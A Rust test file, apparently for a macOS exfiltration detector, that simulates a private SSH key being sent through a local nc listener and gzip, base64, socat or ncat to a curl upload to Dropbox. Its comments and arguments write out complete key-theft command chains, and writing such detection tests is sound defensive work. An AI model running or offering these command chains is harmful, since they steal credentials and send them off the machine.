//! What comes over a local port and leaves by a way that changes it, or by a program that the listener starts.

use super::hops::{NC, second_hop_if, sends_out};
use super::world::*;

const KEY: &str = "/Users/alice/.ssh/id_rsa";
const DROPBOX: &str = "content.dropboxapi.com";
const CURL: Program = apple("/usr/bin/curl", "com.apple.curl");
const ZSH: Program = apple("/bin/zsh", "com.apple.zsh");
const TO: [&str; 4] = ["curl", "-T", "-", "https://content.dropboxapi.com/2/files/upload"];

/// `nc localhost 9999 < key`, so many bytes, to whoever listens.
fn sends_a_key(w: &mut World, at: f64, listener: &Proc, reads: bool, bytes: usize) {
    let shell = w.launch(at, ZSH, &["-zsh"]);
    let thief = w.fork(at + 0.1, &shell);
    if reads {
        w.open(at + 0.11, &thief, KEY);
    }
    let thief = w.exec(at + 0.12, &thief, NC, &["nc", "localhost", "9999"]);
    let mut local = w.connect_local(at + 0.2, &thief, listener, 9999);
    w.plain(at + 0.21, &mut local, true, &vec![b'x'; bytes]);
    w.close(at + 0.5, &mut local);
    w.exit(at + 0.6, &thief);
}

/// `nc -l 9999 | gzip | curl -T - ..`: what leaves is smaller than what came, or larger where it is encoded.
#[test]
fn steps_that_change_the_size() {
    for (step, came, sends, reads, tells) in [
        ("gzip", 200_000, 41_000, true, true),
        ("zstd", 40_000, 9_000, true, true),
        ("base64", 9_000, 12_200, true, true),
        ("openssl", 9_000, 9_200, true, true),
        ("gzip", 200_000, 41_000, false, false),
        // Far more than came.
        ("gzip", 9_000, 400_000, true, false),
    ] {
        let mut w = World::new();
        let shell = w.launch(0.5, ZSH, &["-zsh"]);
        let (a, b, c) = (w.fork(1.0, &shell), w.fork(1.001, &shell), w.fork(1.002, &shell));
        let env = &["HOME=/Users/alice"];
        let nc = w.exec_in(1.01, &a, NC, &["nc", "-l", "9999"], "null", &[(1, 50)], env);
        let path: &'static str = format!("/usr/bin/{step}").leak();
        let id: &'static str = format!("com.apple.{step}").leak();
        let middle = w.exec_in(1.02, &b, apple(path, id), &[step], "null", &[(0, 50), (1, 51)], env);
        let curl = w.exec_in(1.03, &c, CURL, &TO, "null", &[(0, 51)], env);
        sends_a_key(&mut w, 3.0, &nc, reads, came);
        w.exit(3.7, &nc);
        w.exit(3.8, &middle);
        w.upload(4.0, &curl, DROPBOX, sends);
        second_hop_if(tells, &w.tell());
    }
}

/// `nc -l 9999 | gzip > /tmp/x`
#[test]
fn a_changed_file_behind_a_port() {
    for reads in [true, false] {
        let mut w = World::new();
        let shell = w.launch(0.5, ZSH, &["-zsh"]);
        let (a, b) = (w.fork(1.0, &shell), w.fork(1.001, &shell));
        let env = &["HOME=/Users/alice"];
        let nc = w.exec_in(1.01, &a, NC, &["nc", "-l", "9999"], "null", &[(1, 50)], env);
        let gzip =
            w.exec_in(1.02, &b, apple("/usr/bin/gzip", "com.apple.gzip"), &["gzip"], "null", &[(0, 50)], env);
        sends_a_key(&mut w, 3.0, &nc, reads, 30_000);
        w.exit(3.7, &nc);
        w.write_inode(3.8, &gzip, "/private/tmp/out", 4711);
        second_hop_if(reads, &sends_out(w));
    }
}

/// `socat TCP-LISTEN:9999,fork EXEC:"curl -T - .."`: what it starts has the connection for its standard input.
#[test]
fn a_listener_that_starts_a_program() {
    let socat = adhoc("/opt/homebrew/Cellar/socat/1.8.0.1/bin/socat", "socat");
    let ncat = adhoc("/opt/homebrew/Cellar/nmap/7.95/bin/ncat", "ncat");
    for (listener, args, forks, shell, reads, tells) in [
        (
            socat,
            vec!["socat", "TCP-LISTEN:9999,fork", "EXEC:curl -T - https://content.dropboxapi.com/x"],
            true,
            false,
            true,
            true,
        ),
        (
            socat,
            vec!["socat", "TCP-LISTEN:9999", "EXEC:curl -T - https://content.dropboxapi.com/x"],
            false,
            false,
            true,
            true,
        ),
        (
            socat,
            vec!["socat", "TCP-LISTEN:9999,fork", "SYSTEM:curl -T - https://content.dropboxapi.com/x"],
            true,
            true,
            true,
            true,
        ),
        (
            ncat,
            vec!["ncat", "-l", "9999", "--sh-exec", "curl -T - https://content.dropboxapi.com/x"],
            true,
            true,
            true,
            true,
        ),
        (
            socat,
            vec!["socat", "TCP-LISTEN:9999,fork", "EXEC:curl -T - https://content.dropboxapi.com/x"],
            true,
            false,
            false,
            false,
        ),
        // What it starts has nothing of the connection.
        (socat, vec!["socat", "TCP-LISTEN:9999,fork", "TCP:10.0.0.1:80"], true, false, true, false),
    ] {
        let mut w = World::new();
        let server = w.launch(1.0, listener, &args);
        let worker = if forks { w.fork(3.15, &server) } else { server };
        sends_a_key(&mut w, 3.0, &server, reads, 2_700);
        let child = if shell {
            let sh = w.spawn(
                3.25,
                &worker,
                apple("/bin/sh", "com.apple.sh"),
                &["sh", "-c", "curl -T - https://content.dropboxapi.com/x"],
            );
            w.spawn(3.26, &sh, CURL, &TO)
        } else {
            w.spawn(3.25, &worker, CURL, &TO)
        };
        w.upload(3.8, &child, DROPBOX, 2_700);
        second_hop_if(tells, &w.tell());
    }
}
